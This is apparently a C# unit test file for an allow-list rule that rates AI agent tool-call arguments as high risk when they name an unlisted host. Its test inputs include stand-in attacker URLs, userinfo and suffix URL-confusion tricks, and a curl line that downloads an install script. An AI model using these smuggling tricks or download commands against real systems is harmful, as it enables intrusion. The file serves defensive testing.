using MeshFlow.Governance.Risk;

namespace MeshFlow.Tests.Governance.Risk;

public sealed class HostNotAllowedRuleTests
{
    [Theory]
    [InlineData("""{ "url": "https://evil.com/upload" }""")]
    [InlineData("""{ "url": "https://evil-example.com/" }""")]
    [InlineData("""{ "url": "https://example.com.evil.io/" }""")]
    [InlineData("""{ "url": "https://example.com@evil.com/login" }""")]
    [InlineData("""{ "url": "https://example.com:443\\@evil.com/" }""")]
    [InlineData("""{ "endpoint": "attacker.net:8443" }""")]
    [InlineData("""{ "target": "ftp://files.elsewhere.org/x" }""")]
    [InlineData("""{ "request": { "callbackUrl": "http://10.0.0.5:9000/hook" } }""")]
    [InlineData("""{ "command": "curl -s https://raw.unknown.dev/install.sh -o /tmp/i.sh" }""")]
    public void A_host_not_on_the_allow_list_is_high(string arguments)
    {
        var assessment = RiskCall.Assess("fetch", RiskTier.Low, arguments);

        Assert.Equal((RiskTier.High, RiskRuleIds.HostNotAllowed), (assessment.Tier, assessment.Rule));
    }

    [Theory]
    [InlineData("""{ "url": "https://example.com/docs" }""")]
    [InlineData("""{ "url": "https://docs.example.com/a?b=c" }""")]
    [InlineData("""{ "url": "HTTPS://Api.Partner.IO./v1" }""")]
    [InlineData("""{ "host": "example.com" }""")]
    [InlineData("""{ "command": "curl https://api.partner.io/v1/status" }""")]
    [InlineData("""{ "query": "what is evil.com known for" }""")]
    [InlineData("""{ "content": "see https://evil.com for details" }""")]
    public void A_listed_host_or_its_subdomain_keeps_the_declared_tier(string arguments)
    {
        var assessment = RiskCall.Assess("fetch", RiskTier.Low, arguments);

        Assert.Equal((RiskTier.Low, RiskRuleIds.Declared), (assessment.Tier, assessment.Rule));
    }

    [Fact]
    public void An_empty_allow_list_leaves_every_host_unlisted()
    {
        var assessment = RiskCall.Assess("fetch", RiskTier.Low, """{ "url": "https://example.com/" }""", RiskRuleOptions.Default);

        Assert.Equal((RiskTier.High, RiskRuleIds.HostNotAllowed), (assessment.Tier, assessment.Rule));
        Assert.Equal("argument 'url' names a host that is not on the allow list", assessment.Detail);
    }

    [Fact]
    public void Wildcard_and_dot_entries_allow_the_domain_and_its_subdomains()
    {
        var options = RiskCall.Scratch with { AllowedHosts = ["*.corp.net", ".files.org"] };

        Assert.Equal(RiskRuleIds.Declared, RiskCall.Assess("fetch", RiskTier.Low, """{ "url": "https://a.corp.net/" }""", options).Rule);
        Assert.Equal(RiskRuleIds.Declared, RiskCall.Assess("fetch", RiskTier.Low, """{ "url": "https://files.org/" }""", options).Rule);
        Assert.Equal(RiskRuleIds.HostNotAllowed, RiskCall.Assess("fetch", RiskTier.Low, """{ "url": "https://notcorp.net/" }""", options).Rule);
    }
}
